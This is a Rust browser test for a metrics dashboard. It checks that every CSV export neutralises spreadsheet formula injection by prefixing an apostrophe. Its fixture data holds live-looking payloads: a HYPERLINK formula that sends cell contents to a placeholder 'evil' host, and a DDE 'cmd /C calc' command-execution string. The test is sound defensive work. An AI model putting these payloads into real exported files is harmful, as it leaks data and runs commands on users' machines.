//! Every CSV download of every page, from data whose names, ids, teams and severities are spreadsheet
//! formulas (`=HYPERLINK(...)`, `+1+1`, `-2+3`, `@SUM(...)`): no cell starts with a formula character
//! unless it is a number the site wrote (a negative budget stays a number), and the payloads are there,
//! neutralised with a leading `'` (issue #16).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use anyhow::{ensure, Result};
use common::copy_dir;
use serde_json::{json, Value};
use uptrend_e2e::{paths, Browser};

const HYPERLINK: &str = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
const SERVICE_ID: &str = "-2+3";
const SLO_ID: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One service, one SLO with its budget overspent (remaining -900 %), a failed deployment and the
/// incident it caused, and a deployment with a change committed after it (a lead time of -2 h):
/// every text a formula.
fn hostile_snapshot() -> Value {
    let buckets = 168;
    json!({
        "version": 1,
        "generated_at": "2026-11-21T00:00:00Z",
        "services": [{"id": SERVICE_ID, "name": HYPERLINK, "team": "+1+1"}],
        "slos": [{
            "id": SLO_ID, "service": SERVICE_ID, "name": "=1+1", "objective": 0.999, "window": "28d",
            "budgeting": "occurrences",
            "sli": {"start": "2026-11-14T00:00:00Z", "step": "1h",
                    "good": vec![990; buckets], "total": vec![1000; buckets]}
        }],
        "deployments": [{
            "id": "=dep", "service": SERVICE_ID, "finished_at": "2026-11-20T10:00:00Z", "status": "failed",
            "changes": [{"id": "=c0", "committed_at": "2026-11-20T09:00:00Z"}]
        }, {
            "id": "+dep2", "service": SERVICE_ID, "finished_at": "2026-11-20T14:00:00Z", "status": "succeeded",
            "changes": [{"id": "+change", "committed_at": "2026-11-20T09:00:00Z"},
                        {"id": "@late", "committed_at": "2026-11-20T16:00:00Z"}]
        }],
        "incidents": [{
            "id": "@INC", "service": SERVICE_ID, "severity": "=SEV", "started_at": "2026-11-20T10:05:00Z",
            "resolved_at": "2026-11-20T11:00:00Z", "caused_by": ["=dep"]
        }]
    })
}

/// dist/ with its data replaced by the hostile snapshot.
fn hostile_site() -> Result<tempfile::TempDir> {
    let site = tempfile::tempdir()?;
    copy_dir(&paths::dist_dir()?, site.path())?;
    let data = site.path().join("data");
    std::fs::remove_dir_all(&data)?;
    std::fs::create_dir_all(data.join("snapshots"))?;
    std::fs::write(data.join("snapshots/hostile.json"), hostile_snapshot().to_string())?;
    let index = json!({"title": "=TITLE()", "snapshots": ["snapshots/hostile.json"]});
    std::fs::write(data.join("index.json"), index.to_string())?;
    Ok(site)
}

/// Records every download the page starts, then clicks every "Download CSV" button on the page.
const DOWNLOAD_EVERY_CSV: &str = "
    window.uptrendDownloads = [];
    const blobs = new Map();
    const createObjectURL = URL.createObjectURL;
    URL.createObjectURL = blob => { const url = createObjectURL(blob); blobs.set(url, blob); return url; };
    HTMLAnchorElement.prototype.click = function () {
        const blob = blobs.get(this.href);
        window.uptrendDownloads.push(blob.text().then(text => ({ name: this.download, text })));
    };
    const buttons = [...document.querySelectorAll('button')].filter(b => b.textContent.trim() === 'Download CSV');
    buttons.forEach(button => button.click());
    return buttons.length;";

/// The CSV files of the page at `path`, as (file name, rows of fields).
fn page_csvs(browser: &Browser, path: &str, ready: &str) -> Result<Vec<(String, Vec<Vec<String>>)>> {
    browser.goto(path)?;
    browser.wait_for(ready)?;
    let buttons = browser.execute(DOWNLOAD_EVERY_CSV, vec![])?;
    ensure!(buttons.as_u64().unwrap_or(0) > 0, "no CSV download on {path}");
    let captured = browser.execute("return Promise.all(window.uptrendDownloads)", vec![])?;
    let captured: Vec<Value> = serde_json::from_value(captured)?;
    ensure!(Some(captured.len() as u64) == buttons.as_u64(), "{path}: {buttons} buttons, {} files", captured.len());
    Ok(captured
        .iter()
        .map(|file| {
            (file["name"].as_str().unwrap_or_default().to_owned(), parse_csv(file["text"].as_str().unwrap_or_default()))
        })
        .collect())
}

/// RFC 4180 fields, row by row, as an independent reader (the `csv` crate) reads them.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    // A record the reader refuses becomes a row no check expects, so the test fails on it.
    reader
        .records()
        .map(|record| match record {
            Ok(record) => record.iter().map(str::to_owned).collect(),
            Err(error) => vec![format!("unreadable CSV: {error}")],
        })
        .collect()
}

/// A number as the site writes it, with or without its unit: `-900`, `-12.5 %`, `-1 h`, `-0.5×`.
fn is_number(field: &str) -> bool {
    let bare = [" %", " pp", "×", " h", "/day"].iter().find_map(|unit| field.strip_suffix(unit)).unwrap_or(field);
    bare.parse::<f64>().is_ok_and(f64::is_finite)
}

fn query(value: &str) -> String {
    url::form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

#[test]
fn no_csv_download_of_any_page_carries_a_live_formula() -> Result<()> {
    let site = hostile_site()?;
    let browser = Browser::launch_serving(site.path())?;
    let pages = [
        ("".to_owned(), "[data-testid=slo-table] tbody tr"),
        (format!("?page=slo&slo={}", query(SLO_ID)), "[data-testid=traffic-chart] svg"),
        (format!("?page=service&service={}", query(SERVICE_ID)), "[data-testid=deployments-table] table"),
        ("?page=delivery".to_owned(), "[data-testid=lead-time-chart] svg"),
        // The records lists behind the numbers are collapsed until one is chosen.
        ("?page=delivery&drill=deployments".to_owned(), "[data-testid=records] table"),
        ("?page=delivery&drill=changes".to_owned(), "[data-testid=records] table"),
        ("?page=delivery&drill=incidents".to_owned(), "[data-testid=records] table"),
    ];
    let mut all = Vec::new();
    for (path, ready) in &pages {
        let files = page_csvs(&browser, path, ready)?;
        for (name, rows) in &files {
            for field in rows.iter().flatten() {
                assert!(
                    !field.starts_with(FORMULA_STARTS) || is_number(field),
                    "{path} {name}: the cell {field:?} would run as a formula"
                );
            }
        }
        all.extend(files.into_iter().map(|(name, rows)| (path.clone(), name, rows)));
    }
    let fields = |page: &str, file: &str| -> Vec<String> {
        all.iter()
            .filter(|(path, name, _)| path == page && name == file)
            .flat_map(|(_, _, rows)| rows.iter().flatten().cloned())
            .collect()
    };
    let overview = fields("", "slos.csv");
    assert!(overview.contains(&format!("'{HYPERLINK}")), "the payload is kept, neutralised: {overview:?}");
    assert!(overview.contains(&"'+1+1".to_owned()) && overview.contains(&"'=1+1".to_owned()), "{overview:?}");
    let slos_csv = &all.iter().find(|(path, name, _)| path.is_empty() && name == "slos.csv").expect("slos.csv").2;
    let budget_column = slos_csv[0].iter().position(|title| title == "budget remaining (%)").expect("budget column");
    let budget: f64 = slos_csv[1][budget_column].parse()?;
    assert!(budget < -800.0, "the overspent budget is a negative number, not text: {}", slos_csv[1][budget_column]);
    let delivery: Vec<String> = all
        .iter()
        .filter(|(path, _, _)| path.starts_with("?page=delivery"))
        .flat_map(|(_, _, rows)| rows.iter().flatten().cloned())
        .collect();
    for payload in ["'=dep", "'+dep2", "'+change", "'@late", "'@INC", "'=SEV"] {
        assert!(delivery.contains(&payload.to_owned()), "{payload} in the delivery CSVs: {delivery:?}");
    }
    let negative_lead = |field: &String| field.starts_with("-2") && field.ends_with(" h");
    assert!(delivery.iter().any(negative_lead), "a negative lead time stays a number: {delivery:?}");
    browser.close()
}
